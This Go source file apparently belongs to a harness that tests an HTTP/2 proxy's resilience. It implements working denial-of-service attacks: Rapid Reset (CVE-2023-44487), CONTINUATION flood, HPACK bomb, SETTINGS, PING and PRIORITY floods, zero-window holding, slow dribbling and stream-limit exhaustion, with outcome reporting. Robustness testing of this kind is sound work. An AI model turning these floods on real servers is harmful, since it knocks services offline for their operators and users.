package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floodWith floods addr with frames written by frame(h, i) (i counts per
// connection; wmu is held), reading nothing back while it floods so that the
// server's answers pile up on its side. When the server ends a connection the
// attacker opens another, up to floodConns. The outcome says how the first one
// ended.
func floodWith(ctx context.Context, a *attackEnv, addr string, tc *tls.Config, frame func(h *h2conn, i int) error) outcome {
	w, cancel := a.window(ctx)
	defer cancel()
	first, total, conns := "", 0, 0
	for ; conns < a.s.floodConns && w.Err() == nil; conns++ {
		h, err := dialH2(w, addr, tc)
		if err != nil {
			if conns == 0 {
				return outcome{err: err}
			}
			break
		}
		h.pauseReads()
		total += h.flood(w, a.s.floodFrames, func(i int) error { return frame(h, i) })
		h.resumeReads()
		select { // the server may still be answering what it read
		case <-h.done:
		case <-time.After(time.Second):
		}
		ended := h.endedBy()
		h.close()
		if conns == 0 {
			first = ended
		}
		if ended == "" {
			conns++
			break
		}
	}
	closed := first
	if closed == "" {
		closed = "kept open"
	}
	return outcome{closedBy: first, note: fmt.Sprintf("%d frames on %d conns; first: %s", total, conns, closed)}
}

func h2SettingsFlood(ctx context.Context, a *attackEnv) outcome {
	return floodWith(ctx, a, a.t.h2c, nil, settingsFrame)
}

func h2PingFlood(ctx context.Context, a *attackEnv) outcome {
	return floodWith(ctx, a, a.t.h2c, nil, pingFrame)
}

func settingsFrame(h *h2conn, _ int) error {
	return h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
}

func pingFrame(h *h2conn, i int) error {
	return h.fr.WritePing(false, [8]byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)})
}

// h2RapidReset opens a stream and cancels it at once, over and over (CVE-2023-44487).
func h2RapidReset(ctx context.Context, a *attackEnv) outcome {
	return floodWith(ctx, a, a.t.h2c, nil, func(h *h2conn, i int) error {
		path := "/ok"
		if i%2 == 1 {
			path = "/denied"
		}
		id, err := h.open("GET", path, true)
		if err != nil {
			return err
		}
		return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// h2ContinuationFlood sends one HEADERS without END_HEADERS, then CONTINUATION
// frames of never-indexed headers that never end (CVE-2024-27316 and kin).
func h2ContinuationFlood(ctx context.Context, a *attackEnv) outcome {
	return floodWith(ctx, a, a.t.h2c, nil, func(h *h2conn, i int) error {
		if i == 0 {
			return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block("GET", "/ok")})
		}
		h.hbuf.Reset()
		for j := range 100 {
			_ = h.enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-c%d", j), Value: strings.Repeat("v", 100), Sensitive: true})
		}
		return h.fr.WriteContinuation(1, false, h.hbuf.Bytes())
	})
}

// h2HPACKBomb puts a 4 000-byte header into the dynamic table and refers to it
// 4 000 times per header block: 4 kB on the wire, 16 MB decoded, per stream.
func h2HPACKBomb(ctx context.Context, a *attackEnv) outcome {
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("a", 4000)}
	return floodWith(ctx, a, a.t.h2c, nil, func(h *h2conn, i int) error {
		h.hbuf.Reset()
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
			{Name: ":path", Value: "/denied"}, {Name: ":authority", Value: h.authority}} {
			_ = h.enc.WriteField(f)
		}
		for range 4000 {
			_ = h.enc.WriteField(bomb)
		}
		id := h.next
		h.next += 2
		return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.hbuf.Bytes(),
			EndStream: true, EndHeaders: true})
	})
}

// h2EmptyData opens one request with a body and sends empty DATA frames on it.
func h2EmptyData(ctx context.Context, a *attackEnv) outcome {
	return floodWith(ctx, a, a.t.h2c, nil, func(h *h2conn, i int) error {
		if i == 0 {
			_, err := h.open("GET", "/ok?hold=1", false)
			return err
		}
		return h.fr.WriteData(1, false, nil)
	})
}

// h2PriorityFlood sends PRIORITY frames for ever new (idle) streams.
func h2PriorityFlood(ctx context.Context, a *attackEnv) outcome {
	return floodWith(ctx, a, a.t.h2c, nil, func(h *h2conn, i int) error {
		id := uint32(2*i+1) & 0x7fffffff
		return h.fr.WritePriority(max(id, 1), http2.PriorityParam{StreamDep: (id + 2) & 0x7fffffff, Weight: uint8(i)})
	})
}

// fillGrace is how long past d an attack that fills the proxy's windows goes on
// while the proxy still takes data: what the proxy then holds is what its
// windows allow, not what the attacker managed to send in d.
const fillGrace = 10 * time.Second

// streamsOn opens streams on each of conns connections with open(h), as many
// as count(server's limit, 0 when unknown) says, holds them for d calling
// tick(h, ids) every 100 ms (longer, up to fillGrace, while tick reports that
// the proxy still takes data), and reports streams opened and reset.
func streamsOn(ctx context.Context, a *attackEnv, addr string, tc *tls.Config, conns int, settings []http2.Setting,
	count func(limit int) int, open func(h *h2conn) (uint32, error), tick func(h *h2conn, ids []uint32) (filling bool)) outcome {
	var hs []*h2conn
	var ids [][]uint32
	defer func() {
		for _, h := range hs {
			h.close()
		}
	}()
	w, cancel := context.WithTimeout(ctx, a.d+fillGrace)
	defer cancel()
	end := time.Now().Add(a.d)
	opened := 0
	for range conns {
		h, err := dialH2(w, addr, tc, settings...)
		if err != nil && len(hs) == 0 {
			return outcome{err: err}
		}
		if err != nil { // the server stopped accepting: that is the result
			break
		}
		n := count(int(h.maxStreams.Load()))
		var mine []uint32
		_ = h.write(func() error {
			for range n {
				id, err := open(h)
				if err != nil {
					return err
				}
				mine = append(mine, id)
			}
			return nil
		})
		opened += len(mine)
		hs, ids = append(hs, h), append(ids, mine)
	}
	for lastFill := time.Now(); w.Err() == nil; {
		for i, h := range hs {
			if tick != nil && tickOn(h, ids[i], tick) {
				lastFill = time.Now()
			}
		}
		if time.Now().After(end) && time.Since(lastFill) > 500*time.Millisecond {
			break
		}
		select {
		case <-w.Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	var resets, refused int64
	ended := 0
	for _, h := range hs {
		resets += h.resets.Load()
		refused += h.refused.Load()
		if h.endedBy() != "" {
			ended++
		}
	}
	return outcome{note: fmt.Sprintf("%d streams on %d of %d conns, %d reset (%d refused), %d conns ended",
		opened, len(hs), conns, resets, refused, ended)}
}

// tickOn runs tick on h's streams under its write lock and flushes.
func tickOn(h *h2conn, ids []uint32, tick func(h *h2conn, ids []uint32) bool) (filling bool) {
	_ = h.write(func() error { filling = tick(h, ids); return nil })
	return filling
}

// h2ZeroWindow asks for 1 MiB answers on many streams with an initial window of
// 0 and never opens it: whatever the proxy fetches from the app, it must hold.
func h2ZeroWindow(ctx context.Context, a *attackEnv) outcome {
	return streamsOn(ctx, a, a.t.h2c, nil, a.s.streamConns,
		[]http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, a.upToLimit,
		func(h *h2conn) (uint32, error) { return h.open("GET", "/ok?size=1048576", true) }, nil)
}

// h2DataDribble opens many request bodies the app holds and feeds each one byte
// every 100 ms.
func h2DataDribble(ctx context.Context, a *attackEnv) outcome {
	return streamsOn(ctx, a, a.t.h2c, nil, a.s.streamConns, nil, a.upToLimit,
		func(h *h2conn) (uint32, error) { return h.open("GET", "/ok?hold=1", false) },
		func(h *h2conn, ids []uint32) bool {
			for _, id := range ids {
				_ = h.fr.WriteData(id, false, []byte{'a'})
			}
			return false
		})
}

// h2StreamLimit opens ten times the server's stream limit on one connection.
func h2StreamLimit(ctx context.Context, a *attackEnv) outcome {
	tenfold := func(limit int) int { return 10 * max(limit, 100) }
	return streamsOn(ctx, a, a.t.h2c, nil, 1, nil, tenfold,
		func(h *h2conn) (uint32, error) { return h.open("GET", "/ok?hold=1", false) }, nil)
}

// upToLimit is a.s.streams, or the server's limit when that is lower.
func (a *attackEnv) upToLimit(limit int) int {
	if limit > 0 && limit < a.s.streams {
		return limit
	}
	return a.s.streams
}
